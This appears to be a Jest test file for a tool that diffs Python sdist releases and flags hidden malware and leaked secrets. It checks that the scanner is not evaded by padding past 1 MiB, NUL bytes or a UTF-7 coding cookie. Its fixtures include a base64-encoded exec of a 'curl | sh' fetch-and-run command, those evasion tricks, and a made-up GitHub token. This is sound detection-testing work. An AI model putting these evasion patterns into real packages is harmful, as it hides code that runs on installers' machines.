// issue 23 item 2: no content check is switched off by size or bytes. Each case is a real pair of
// sdists written by GNU tar, judged by the CLI: high, naming the path pip would install.
import { describe, expect, it } from '@jest/globals'
import { execFileSync } from 'node:child_process'
import { writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { decodeUtf7 } from '../../src/read/python-source.js'
import { buildSdist, tempDir, type SdistSpec } from '../helpers/sdist.js'
import { runCli } from '../helpers/target.js'

// Shaped like a real GitHub token (with a valid checksum), made up for the test.
const TOKEN = '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'
const PAYLOAD = `exec(b64decode("${Buffer.from('import os; os.system("curl x | sh")').toString('base64')}"))`
/** More than the 1 MiB a diff holds as text: ordinary code, as padding. */
const PADDING = 'def helper(value):\n    return value + 1\n\n'.repeat(30_000)

interface Finding {
  rule: string
  severity: string
  path: string
  message: string
}

async function judge(before: SdistSpec['files'], after: SdistSpec['files']): Promise<Finding[]> {
  const dir = tempDir()
  const previous = buildSdist(dir, { version: '1.0', files: before })
  const current = buildSdist(dir, { version: '1.1', files: after })
  const { stdout } = await runCli([previous, current, '--format', 'json', '--fail-on', 'none'])
  return (JSON.parse(stdout) as { findings: Finding[] }).findings
}

const base = { 'demo/__init__.py': '__version__ = "1.0"\n' }

describe('content checks read every file, whatever its size or bytes', () => {
  it('finds an exec payload in an added module padded past 1 MiB', async () => {
    const big = `from base64 import b64decode\n${PADDING}${PAYLOAD}\n`
    expect(big.length).toBeGreaterThan(1024 ** 2)
    const findings = await judge(base, { ...base, 'demo/_big.py': big })
    expect(findings).toContainEqual(
      expect.objectContaining({
        rule: 'suspicious-code',
        severity: 'high',
        path: 'demo/_big.py',
        message: expect.stringMatching(/^demo\/_big\.py:\d+ decodes and executes data/)
      })
    )
  })

  it('finds an exec payload and a token in an __init__.py grown past 1 MiB', async () => {
    const grown = `from base64 import b64decode\n${PADDING}TOKEN = '${TOKEN}'\n${PAYLOAD}\n`
    const findings = await judge(base, { 'demo/__init__.py': grown })
    const high = findings.filter(f => f.severity === 'high').map(f => [f.rule, f.path])
    expect(high).toEqual(
      expect.arrayContaining([
        ['suspicious-code', 'demo/__init__.py'],
        ['secret-added', 'demo/__init__.py']
      ])
    )
  })

  it('finds a token in a config file that holds one NUL byte', async () => {
    const config = Buffer.from(`[upload]\nkey = 1\u0000\ngithub = ${TOKEN}\n`)
    const findings = await judge(base, { ...base, 'demo/settings.cfg': { content: config } })
    expect(findings).toContainEqual(
      expect.objectContaining({
        rule: 'secret-added',
        severity: 'high',
        path: 'demo/settings.cfg',
        message: expect.stringMatching(/^demo\/settings\.cfg line 3: GitHub/)
      })
    )
  })

  it('reads a module with a UTF-7 coding cookie as Python does: the cookie and the exec are high', async () => {
    const source = `from base64 import b64decode\n${PAYLOAD}\n`
    // Python's own codec writes the module, and Python's own reader shows what runs.
    const module = execFileSync('python3', [
      '-c',
      'import sys; sys.stdout.buffer.write(b"# -*- coding: utf-7 -*-\\n" + sys.argv[1].encode("utf-7").replace(b"(", b"+ACg-"))',
      source
    ])
    expect(module.toString('latin1')).not.toContain('exec(')
    const dir = tempDir()
    writeFileSync(join(dir, 'm.py'), module)
    const python = execFileSync('python3', [
      '-c',
      'import sys, tokenize; print(tokenize.open(sys.argv[1]).read(), end="")',
      join(dir, 'm.py')
    ]).toString()
    expect(decodeUtf7(module)).toBe(python)
    const findings = await judge(base, { ...base, 'demo/codec.py': { content: module } })
    const suspicious = findings.filter(f => f.rule === 'suspicious-code')
    expect(suspicious).toEqual(
      expect.arrayContaining([
        expect.objectContaining({
          severity: 'high',
          path: 'demo/codec.py',
          message: expect.stringMatching(
            /^demo\/codec\.py:1 declares a source encoding .*coding: utf-7/
          )
        }),
        expect.objectContaining({
          severity: 'high',
          path: 'demo/codec.py',
          message: expect.stringMatching(/^demo\/codec\.py:3 decodes and executes data \(exec\)/)
        })
      ])
    )
  })

  it('leaves UTF-8 and Latin-1 cookies alone, and a cookie the previous release had', async () => {
    const latin = { 'demo/old.py': '# -*- coding: latin-1 -*-\nx = 1\n' }
    const utf8 = {
      'demo/new.py': '#!/usr/bin/env python\n# vim: set fileencoding=utf-8 :\nx = 1\n'
    }
    const kept = { 'demo/kept.py': '# coding: cp1252\nx = 1\n' }
    const findings = await judge(
      { ...base, ...kept },
      { ...base, ...latin, ...utf8, 'demo/kept.py': '# coding: cp1252\nx = 2\n' }
    )
    expect(findings.filter(f => f.rule === 'suspicious-code')).toEqual([])
  })
})
